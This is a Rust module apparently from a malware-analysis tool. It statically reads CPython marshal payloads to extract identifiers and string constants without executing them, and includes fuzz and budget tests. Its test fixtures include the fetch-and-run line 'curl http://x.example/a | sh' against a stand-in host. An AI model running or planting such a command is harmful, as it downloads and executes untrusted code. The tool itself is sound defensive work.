//! A lenient, bounded reader of CPython's `marshal` format (format versions 2–4, Python 3.x).
//!
//! Droppers ship `exec(marshal.loads(b'...'))`: the payload is a code object whose names and
//! constants tell what it does. Nothing is executed or rebuilt here: the bytes are walked once
//! per candidate code-object layout and only identifiers and string constants are kept.
//! The input is hostile, so nesting, object count and copied bytes are all bounded.

use std::collections::HashSet;
use std::rc::Rc;

/// Deepest nesting followed (real code objects nest a few levels; CPython allows 2000).
const MAX_DEPTH: usize = 200;
/// Most objects read, counting the items a ref to a names tuple brings back.
const MAX_OBJECTS: usize = 200_000;
/// Most string and bytes payload copied out of the input.
const MAX_STRING_BYTES: usize = 4 << 20;
/// Most text hashed for de-duplication: refs can repeat one big string many times.
const MAX_EMIT_BYTES: usize = 16 << 20;

/// What a marshalled object (usually a code object) holds that tells what it does.
#[derive(Debug, Default, Clone, PartialEq)]
pub struct MarshalSummary {
    /// Names the code uses: co_names, co_varnames, co_freevars... (identifiers), de-duplicated, in first-seen order.
    pub names: Vec<String>,
    /// String and bytes constants (bytes as lossy UTF-8), in order, de-duplicated.
    pub strings: Vec<String>,
    /// Code objects seen (the module and nested functions/classes).
    pub code_objects: usize,
    /// co_filename / co_name of the outermost code object when found.
    pub filename: Option<String>,
    /// The reader stopped early (budget, unknown type, truncated data).
    pub truncated: bool,
}

/// Read marshal data; None when it does not look like marshal data at all.
pub fn read(data: &[u8]) -> Option<MarshalSummary> {
    if !is_type_code(*data.first()? & 0x7f) {
        return None;
    }
    // The Python version is not in the data and code objects differ between versions, so each
    // layout is tried; the strict type checks in `Reader::code` make a wrong one fail early.
    // Best is a complete parse, then the one that got furthest.
    let mut best: Option<Reader> = None;
    for layout in [Layout::Py311, Layout::Py38, Layout::Py30] {
        let mut reader = Reader {
            data,
            layout,
            ..Reader::default()
        };
        reader.summary.truncated = reader.object(Role::Strings, 0).is_err();
        let score = (!reader.summary.truncated, reader.pos);
        // Every layout reads the same until the first code object.
        let done = reader.summary.code_objects == 0 || score == (true, data.len());
        if best
            .as_ref()
            .is_none_or(|b| score > (!b.summary.truncated, b.pos))
        {
            best = Some(reader);
        }
        if done {
            break;
        }
    }
    let summary = best?.summary;
    let found_nothing =
        summary.code_objects == 0 && summary.names.is_empty() && summary.strings.is_empty();
    (!(summary.truncated && found_nothing)).then_some(summary)
}

/// Type codes of Python 3 marshal data (without the FLAG_REF bit).
fn is_type_code(code: u8) -> bool {
    b"0NFTS.ilfgxys(tr)[{<>cuaAzZ:".contains(&code)
}

/// Code object layouts: which fields are written, in order.
#[derive(Clone, Copy, PartialEq, Default)]
enum Layout {
    /// 3.11+: localsplusnames/kinds replace varnames/freevars/cellvars; qualname, exception table.
    #[default]
    Py311,
    /// 3.8–3.10: six ints (posonlyargcount added), then varnames, freevars, cellvars.
    Py38,
    /// 3.0–3.7: five ints, then varnames, freevars, cellvars.
    Py30,
}

/// Where the strings of the object being read belong.
#[derive(Clone, Copy, PartialEq)]
enum Role {
    Names,
    Strings,
    /// Bytecode, line tables, file names: not evidence of behaviour.
    Skip,
}

/// The little kept of an object: enough to type-check code fields and to resolve refs.
#[derive(Clone)]
enum Value {
    Null,
    Other,
    /// Bytes read for a skipped field are not copied.
    Bytes(Option<Rc<str>>),
    Str(Rc<str>),
    /// The str items, so that a ref to a shared names tuple still yields its names.
    Tuple(Rc<[Rc<str>]>),
}

/// The reader gave up: corrupt or truncated data, an unknown type, or a budget ran out.
struct Stop;

#[derive(Default)]
struct Reader<'a> {
    data: &'a [u8],
    pos: usize,
    layout: Layout,
    /// FLAG_REF objects, by index, for 'r' back-references.
    refs: Vec<Value>,
    objects: usize,
    string_bytes: usize,
    emit_bytes: usize,
    seen_names: HashSet<Rc<str>>,
    seen_strings: HashSet<Rc<str>>,
    summary: MarshalSummary,
}

impl<'a> Reader<'a> {
    fn take(&mut self, len: usize) -> Result<&'a [u8], Stop> {
        let end = self.pos.saturating_add(len);
        let bytes = self.data.get(self.pos..end).ok_or(Stop)?;
        self.pos = end;
        Ok(bytes)
    }

    fn byte(&mut self) -> Result<u8, Stop> {
        Ok(self.take(1)?[0])
    }

    fn int(&mut self) -> Result<i32, Stop> {
        let bytes = self.take(4)?.try_into().map_err(|_| Stop)?;
        Ok(i32::from_le_bytes(bytes))
    }

    /// A 4-byte size or index; CPython rejects negative ones as corrupt.
    fn size(&mut self) -> Result<usize, Stop> {
        usize::try_from(self.int()?).map_err(|_| Stop)
    }

    fn count(&mut self, objects: usize) -> Result<(), Stop> {
        self.objects = self.objects.saturating_add(objects);
        within(self.objects, MAX_OBJECTS)
    }

    fn object(&mut self, role: Role, depth: usize) -> Result<Value, Stop> {
        self.count(1)?;
        within(depth, MAX_DEPTH)?;
        let byte = self.byte()?;
        let (code, flagged) = (byte & 0x7f, byte & 0x80 != 0);
        // CPython numbers refs in the order objects start (containers reserve their slot before
        // reading items); singletons and refs themselves never take one.
        let slot = (flagged && !b"0NFTS.r".contains(&code)).then(|| {
            self.refs.push(Value::Other);
            self.refs.len() - 1
        });
        let inner = depth + 1;
        let value = match code {
            b'0' => Value::Null,
            b'N' | b'F' | b'T' | b'S' | b'.' => Value::Other,
            b'i' => self.skip(4)?,
            b'g' => self.skip(8)?,
            b'y' => self.skip(16)?,
            b'f' => self.text_float()?,
            b'x' => {
                self.text_float()?;
                self.text_float()?
            }
            // Long: signed digit count (the sign is the number's), 15-bit digits in 2 bytes.
            b'l' => {
                let digits = self.int()?.unsigned_abs() as usize;
                self.skip(digits.saturating_mul(2))?
            }
            // Bytes, then str: interned, UTF-8, ASCII, short ASCII (one-byte length).
            b's' | b't' | b'u' | b'a' | b'A' | b'z' | b'Z' => {
                let short = matches!(code, b'z' | b'Z');
                let len = if short {
                    self.byte()?.into()
                } else {
                    self.size()?
                };
                self.text(len, code != b's', role)?
            }
            b'r' => self.back_ref(role)?,
            // Tuple, then small tuple (one-byte length).
            b'(' | b')' => {
                let len = if code == b')' {
                    self.byte()?.into()
                } else {
                    self.size()?
                };
                Value::Tuple(self.items(len, role, inner)?.into())
            }
            b'[' | b'<' | b'>' => {
                let len = self.size()?;
                self.items(len, role, inner)?;
                Value::Other
            }
            // Dict: key/value pairs up to a NULL key.
            b'{' => loop {
                if let Value::Null = self.object(role, inner)? {
                    break Value::Other;
                }
                self.object(role, inner)?;
            },
            // Slice constants (format version 5, Python 3.14): start, stop, step.
            b':' => {
                for _ in 0..3 {
                    self.object(role, inner)?;
                }
                Value::Other
            }
            b'c' => self.code(inner)?,
            _ => return Err(Stop),
        };
        if let Some(slot) = slot {
            self.refs[slot] = value.clone();
        }
        Ok(value)
    }

    fn skip(&mut self, len: usize) -> Result<Value, Stop> {
        self.take(len)?;
        Ok(Value::Other)
    }

    /// Old-style float: a one-byte length and the repr.
    fn text_float(&mut self) -> Result<Value, Stop> {
        let len = self.byte()?.into();
        self.skip(len)
    }

    fn text(&mut self, len: usize, is_str: bool, role: Role) -> Result<Value, Stop> {
        let raw = self.take(len)?;
        // Skipped bytes (bytecode, line tables) are never copied; skipped str may be a file or
        // code name that is needed, and is small.
        if !is_str && role == Role::Skip {
            return Ok(Value::Bytes(None));
        }
        self.string_bytes += len;
        within(self.string_bytes, MAX_STRING_BYTES)?;
        let text: Rc<str> = String::from_utf8_lossy(raw).into();
        self.emit(&text, is_str, role)?;
        Ok(if is_str {
            Value::Str(text)
        } else {
            Value::Bytes(Some(text))
        })
    }

    fn back_ref(&mut self, role: Role) -> Result<Value, Stop> {
        let index = self.size()?;
        let value = self.refs.get(index).cloned().ok_or(Stop)?;
        // The object was emitted where it was first read, maybe in another role: a name first
        // seen as a constant is a name here too.
        match &value {
            Value::Str(text) => self.emit(text, true, role)?,
            Value::Bytes(Some(text)) => self.emit(text, false, role)?,
            Value::Tuple(items) => {
                self.count(items.len())?;
                for item in items.iter() {
                    self.emit(item, true, role)?;
                }
            }
            _ => {}
        }
        Ok(value)
    }

    /// Read `len` items (untrusted: nothing is allocated ahead) and keep the str ones.
    fn items(&mut self, len: usize, role: Role, depth: usize) -> Result<Vec<Rc<str>>, Stop> {
        let mut strs = Vec::new();
        for _ in 0..len {
            if let Value::Str(text) = self.object(role, depth)? {
                strs.push(text);
            }
        }
        Ok(strs)
    }

    fn emit(&mut self, text: &Rc<str>, is_str: bool, role: Role) -> Result<(), Stop> {
        if role == Role::Skip || text.is_empty() {
            return Ok(());
        }
        self.emit_bytes += text.len();
        within(self.emit_bytes, MAX_EMIT_BYTES)?;
        // A non-identifier in a names tuple (hand-made data) is still worth showing, as a string.
        let (seen, list) = if role == Role::Names && is_str && is_identifier(text) {
            (&mut self.seen_names, &mut self.summary.names)
        } else {
            (&mut self.seen_strings, &mut self.summary.strings)
        };
        if seen.insert(text.clone()) {
            list.push(text.to_string());
        }
        Ok(())
    }

    /// Read one object of the wanted kind: a mismatch means the layout guess is wrong.
    fn expect(&mut self, role: Role, depth: usize, ok: fn(&Value) -> bool) -> Result<Value, Stop> {
        let value = self.object(role, depth)?;
        if ok(&value) { Ok(value) } else { Err(Stop) }
    }

    fn code(&mut self, depth: usize) -> Result<Value, Stop> {
        let outermost = self.summary.code_objects == 0;
        self.summary.code_objects += 1;
        let is_bytes: fn(&Value) -> bool = |v| matches!(v, Value::Bytes(_));
        let is_str: fn(&Value) -> bool = |v| matches!(v, Value::Str(_));
        let is_tuple: fn(&Value) -> bool = |v| matches!(v, Value::Tuple(_));
        // argcount, [posonlyargcount,] kwonlyargcount, [nlocals,] stacksize, flags: never negative.
        let ints = if self.layout == Layout::Py38 { 6 } else { 5 };
        for _ in 0..ints {
            if self.int()? < 0 {
                return Err(Stop);
            }
        }
        self.expect(Role::Skip, depth, is_bytes)?; // co_code
        self.expect(Role::Strings, depth, is_tuple)?; // co_consts
        self.expect(Role::Names, depth, is_tuple)?; // co_names
        if self.layout == Layout::Py311 {
            self.expect(Role::Names, depth, is_tuple)?; // co_localsplusnames
            self.expect(Role::Skip, depth, is_bytes)?; // co_localspluskinds
        } else {
            for _ in 0..3 {
                self.expect(Role::Names, depth, is_tuple)?; // co_varnames, co_freevars, co_cellvars
            }
        }
        let filename = self.expect(Role::Skip, depth, is_str)?;
        let name = self.expect(Role::Skip, depth, is_str)?;
        if self.layout == Layout::Py311 {
            self.expect(Role::Skip, depth, is_str)?; // co_qualname
        }
        self.int()?; // co_firstlineno
        self.expect(Role::Skip, depth, is_bytes)?; // co_lnotab / co_linetable
        if self.layout == Layout::Py311 {
            self.expect(Role::Skip, depth, is_bytes)?; // co_exceptiontable
        }
        // Function and class names; "<module>", "<lambda>"... are not identifiers.
        if let Value::Str(name) = &name
            && is_identifier(name)
        {
            self.emit(name, true, Role::Names)?;
        }
        if let (true, Value::Str(filename)) = (outermost, filename) {
            self.summary.filename = Some(filename.to_string());
        }
        Ok(Value::Other)
    }
}

fn within(used: usize, limit: usize) -> Result<(), Stop> {
    if used <= limit { Ok(()) } else { Err(Stop) }
}

fn is_identifier(text: &str) -> bool {
    let mut chars = text.chars();
    chars.next().is_some_and(|c| c == '_' || c.is_alphabetic())
        && chars.all(|c| c == '_' || c.is_alphanumeric())
}

#[cfg(test)]
mod tests {
    use super::*;

    // Made by tests/data/marshal/make_fixtures.py with each real Python.
    const FIXTURES: [(&str, &[u8]); 6] = [
        ("3.7", include_bytes!("../tests/data/marshal/py37.bin")),
        ("3.8", include_bytes!("../tests/data/marshal/py38.bin")),
        ("3.10", include_bytes!("../tests/data/marshal/py310.bin")),
        ("3.11", include_bytes!("../tests/data/marshal/py311.bin")),
        ("3.12", include_bytes!("../tests/data/marshal/py312.bin")),
        ("3.13", include_bytes!("../tests/data/marshal/py313.bin")),
    ];
    const NAMES: &str = "os system f __import__ socket Beacon ping self host big inner";
    const STRINGS: [&str; 5] = [
        "curl http://x.example/a | sh",
        "socket",
        "x.example",
        "\0secret",
        "h\u{e9}llo",
    ];
    /// Before 3.11 function and qualified names are constants too.
    const OLD_STRINGS: [&str; 4] = ["Beacon", "f", "Beacon.ping", "Beacon.ping.<locals>.inner"];

    #[test]
    fn reads_payloads_of_each_python() {
        for (version, data) in FIXTURES {
            let summary = read(data).expect(version);
            assert!(!summary.truncated, "{version}: {summary:?}");
            assert_eq!(summary.code_objects, 5, "{version}");
            assert_eq!(summary.filename.as_deref(), Some("<payload>"), "{version}");
            let has = |list: &[String], item: &str| list.iter().any(|s| s == item);
            for name in NAMES.split(' ') {
                assert!(has(&summary.names, name), "{version}: {name}");
            }
            for text in STRINGS {
                assert!(has(&summary.strings, text), "{version}: {text}");
            }
            // Nothing from bytecode, line tables or file names.
            for text in summary.strings.iter().map(String::as_str) {
                let known = STRINGS.contains(&text) || OLD_STRINGS.contains(&text);
                assert!(known, "{version}: {text:?}");
            }
        }
    }

    #[test]
    fn only_the_right_layout_parses() {
        use Layout::*;
        let right = [Py30, Py38, Py38, Py311, Py311, Py311];
        for ((version, data), right) in FIXTURES.into_iter().zip(right) {
            for layout in [Py311, Py38, Py30] {
                let mut reader = Reader {
                    data,
                    layout,
                    ..Reader::default()
                };
                let parsed = reader.object(Role::Strings, 0).is_ok();
                assert_eq!(parsed, layout == right, "{version}");
            }
        }
    }

    #[test]
    fn every_prefix_stops_cleanly() {
        for (version, data) in FIXTURES {
            for len in 0..data.len() {
                let summary = read(&data[..len]);
                assert!(summary.is_none_or(|s| s.truncated), "{version}: {len}");
            }
        }
    }

    #[test]
    fn corrupted_fixtures_do_not_panic() {
        // One fixture per layout, each byte overwritten in turn.
        for (_, data) in [FIXTURES[0], FIXTURES[1], FIXTURES[3]] {
            let mut copy = data.to_vec();
            for at in 0..copy.len() {
                for value in [0x00, 0xff, b'(', b'r'] {
                    let old = std::mem::replace(&mut copy[at], value);
                    read(&copy);
                    copy[at] = old;
                }
            }
        }
    }

    #[test]
    fn random_bytes_do_not_panic() {
        let mut state = 0x2545_f491_4f6c_dd1d_u64;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        let codes = b"0NFTS.ilfgxys(tr)[{<>cuaAzZ:";
        for _ in 0..5000 {
            let len = (next() % 300) as usize;
            let mut data: Vec<u8> = (0..len).map(|_| next() as u8).collect();
            // A third are type codes (some flagged) so that the reader gets past the first byte.
            for byte in data.iter_mut() {
                let roll = next();
                if roll % 3 == 0 {
                    *byte = codes[(roll >> 8) as usize % codes.len()] | (roll >> 40) as u8 & 0x80;
                }
            }
            read(&data);
        }
        assert_eq!(read(b""), None);
        assert_eq!(read(b"hello world"), None);
    }

    #[test]
    fn deep_nesting_is_bounded() {
        // A code object (3.0-3.7 and 3.11+ layouts) whose first constant is the next one.
        let code = [&b"c"[..], &[0; 20], b"s\0\0\0\0)\x01"].concat();
        // Tuple of 2^31-1 items, small tuple, one-item list, flagged tuple, each nested 10k deep.
        let headers: [&[u8]; 5] = [
            b"(\xff\xff\xff\x7f",
            b")\xff",
            b"[\x01\0\0\0",
            b"\xa8\x02\0\0\0",
            &code,
        ];
        for header in headers {
            assert!(read(&header.repeat(10_000)).is_none_or(|s| s.truncated));
        }
        let dict = [&b"{".repeat(10_000)[..], b"0"].concat();
        assert!(read(&dict).is_none_or(|s| s.truncated));
    }

    #[test]
    fn object_count_is_bounded() {
        let data = [&b"(\xff\xff\xff\x7f"[..], &b"N".repeat(300_000)].concat();
        assert_eq!(read(&data), None);
    }

    #[test]
    fn repeated_refs_are_bounded() {
        // A tuple of one flagged 1 MiB str, then 100k refs to it.
        let string = [&b"\xf5\0\0\x10\0"[..], &vec![b'x'; 1 << 20]].concat();
        let data = [
            &b"(\xff\xff\xff\x7f"[..],
            &string,
            &b"r\0\0\0\0".repeat(100_000),
        ]
        .concat();
        let summary = read(&data).unwrap();
        assert!(summary.truncated);
        assert_eq!(summary.strings.len(), 1);
    }

    #[test]
    fn string_bytes_are_bounded() {
        // Two 3 MiB bytes constants: the second is over the budget.
        let bytes = |fill| [&b"s\0\0\x30\0"[..], &vec![fill; 3 << 20]].concat();
        let data = [&b"(\x02\0\0\0"[..], &bytes(b'a'), &bytes(b'b')].concat();
        let summary = read(&data).unwrap();
        assert!(summary.truncated);
        assert_eq!(summary.strings.len(), 1);
    }

    #[test]
    fn refs_resolve_and_unknown_refs_stop() {
        // ('abc', <ref 0>) with 'abc' flagged: a valid back-reference.
        let summary = read(b")\x02\xfa\x03abcr\0\0\0\0").unwrap();
        assert_eq!(summary.strings, ["abc"]);
        assert!(!summary.truncated);
        // A ref to an index never stored.
        let summary = read(b")\x02\xfa\x03abcr\x05\0\0\0").unwrap();
        assert_eq!(summary.strings, ["abc"]);
        assert!(summary.truncated);
        assert_eq!(read(b"r\0\0\0\0"), None);
    }

    #[test]
    fn constants_reached_by_ref_from_names_are_names() {
        // A 3.11 code object (ref 0): consts (('cmd',), 'os') with the inner tuple, 'cmd' and 'os'
        // flagged (refs 1-3); co_names is ref 1 and co_localsplusnames is (ref 3,).
        let mut data = b"\xe3\0\0\0\0\0\0\0\0\0\0\0\0\x01\0\0\0\0\0\0\0s\0\0\0\0".to_vec();
        data.extend(b")\x02\xa9\x01\xda\x03cmd\xda\x02os");
        data.extend(b"r\x01\0\0\0)\x01r\x03\0\0\0s\0\0\0\0");
        data.extend(b"z\x03<x>z\x01mz\x01m\0\0\0\0s\0\0\0\0s\0\0\0\0");
        let summary = read(&data).unwrap();
        assert_eq!(summary.names, ["cmd", "os", "m"]);
        assert_eq!(summary.strings, ["cmd", "os"]);
        assert_eq!(summary.filename.as_deref(), Some("<x>"));
        assert!(!summary.truncated);
    }
}
